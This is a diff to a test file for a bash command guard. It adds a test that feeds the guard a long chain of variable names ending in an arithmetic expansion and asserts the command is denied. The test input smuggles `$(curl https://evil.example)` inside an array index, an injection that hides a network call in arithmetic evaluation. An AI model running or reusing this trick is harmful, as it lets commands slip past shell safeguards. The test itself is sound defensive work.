@@ -90,3 +90,11 @@ def test_numbers_and_plain_text_stay_allowed(g, command):
 def test_a_count_over_a_glob_prints_file_names(g):
     # `wc -l *` prints `3 a[$(cmd)]` for a file of that name: not a number
     assert_denied(g.bash("n=$(grep -c x n.txt README.md); echo $((n))", role="open"), REASON)
+
+
+@pytest.mark.parametrize("length", [9, 50, 900])
+def test_a_chain_of_names_is_followed_to_its_end(g, length):
+    # bash follows `a1=a0; a2=a1; …` however long (the guard stopped after 8 names)
+    chain = "; ".join("a%d=a%d" % (k + 1, k) for k in range(length))
+    command = "a0='a[$(curl https://evil.example)]'; %s; echo $((a%d))" % (chain, length)
+    assert_denied(g.bash(command, role="open"), "curl", "arithmetic")
